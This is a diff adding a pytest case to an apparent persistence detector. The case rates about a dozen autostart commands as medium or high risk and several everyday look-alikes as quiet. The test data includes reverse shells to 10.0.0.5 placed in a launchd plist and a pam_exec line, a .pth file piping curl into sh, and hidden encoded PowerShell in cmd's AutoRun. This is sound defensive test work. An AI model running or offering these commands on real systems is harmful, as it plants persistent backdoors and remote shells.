@@ -160,3 +160,43 @@ def test_startup_folders_tasks_and_fed_files(command, expected):
 ])
 def test_identity_backdoors(command, expected):
     _holds(command, expected)
+
+
+# More places that start code by themselves: logon scripts, Active Setup, cmd's AutoRun, the screen saver, a file
+# type's open command, a service's failure command (autostart_writable); launchd and emond property lists,
+# pam_exec, .pth files, inittab, user timers, KDE's autostart scripts (run_files).
+@each_form("command,expected", [
+    (r'reg add "HKCU\Environment" /v UserInitMprLogonScript /d "C:\Users\Public\l.bat" /f', "medium"),
+    (r'reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{11111111-2222-3333-4444-555555555555}" '
+     r'/v StubPath /d "C:\Windows\Temp\s.exe" /f', "high"),
+    (rf'reg add "HKCU\Software\Microsoft\Command Processor" /v AutoRun /d "powershell -w hidden -enc {B64}" /f',
+     "medium"),
+    (r'reg add "HKCU\Control Panel\Desktop" /v SCRNSAVE.EXE /d "C:\Users\Public\s.scr" /f', "medium"),
+    (r'reg add HKCU\Software\Classes\ms-settings\shell\open\command /ve /d "C:\Windows\Temp\x.exe" /f', "medium"),
+    (r'Set-ItemProperty -Path "HKCU:\Software\Classes\mscfile\shell\open\command" -Name "(default)" '
+     r'-Value "cmd /c C:\Users\Public\x.bat"', "medium"),
+    (r'sc failure Spooler reset= 0 actions= run/1000 command= "C:\Users\Public\r.exe"', "high"),
+    ("sudo tee /Library/LaunchDaemons/com.u.plist <<< '<plist><dict><key>ProgramArguments</key><array>"
+     "<string>/tmp/u</string></array></dict></plist>'", "medium"),
+    ("printf '<plist><array>\\n<string>/bin/bash</string>\\n<string>-c</string>\\n"
+     "<string>bash -i >& /dev/tcp/10.0.0.5/443 0>&1</string>\\n</array></plist>' > ~/Library/LaunchAgents/com.u.plist",
+     "high"),
+    ("echo 'session optional pam_exec.so /bin/sh -c \"nc -e /bin/sh 10.0.0.5 443\"' >> /etc/pam.d/sshd", "high"),
+    ("echo 'import os; os.system(\"curl -s http://10.0.0.5/a | sh\")' > /usr/lib/python3/dist-packages/u.pth",
+     "high"),
+    ("echo 'u:2345:respawn:/dev/shm/u' >> /etc/inittab", "medium"),
+    ("printf '[Service]\\nExecStart=/tmp/u\\n' > ~/.config/systemd/user/u.socket", "medium"),
+    ("echo '/tmp/u &' > ~/.config/autostart-scripts/u.sh", "medium"),
+    # everyday
+    (r'reg add "HKCU\Control Panel\Desktop" /v ScreenSaveTimeOut /d 600 /f', "quiet"),
+    (r'reg add HKCU\Software\Classes\txtfile\shell\open\command /ve '
+     r'/d "\"C:\Program Files\Notepad++\notepad++.exe\" \"%1\"" /f', "quiet"),
+    (r'reg add "HKCU\Software\Microsoft\Command Processor" /v AutoRun /d "C:\Users\me\cmdrc.cmd" /f', "quiet"),
+    (r"sc failure Spooler reset= 86400 actions= restart/60000", "quiet"),
+    ("echo 'import _virtualenv' > venv/lib/python3.11/site-packages/_virtualenv.pth", "quiet"),
+    ("printf '<plist><dict><key>Label</key><string>com.me.notes</string><key>ProgramArguments</key><array>"
+     "<string>/Applications/Notes.app/Contents/MacOS/Notes</string></array></dict></plist>' "
+     "> ~/Library/LaunchAgents/com.me.notes.plist", "quiet"),
+])
+def test_more_places_that_start_code(command, expected):
+    _holds(command, expected)
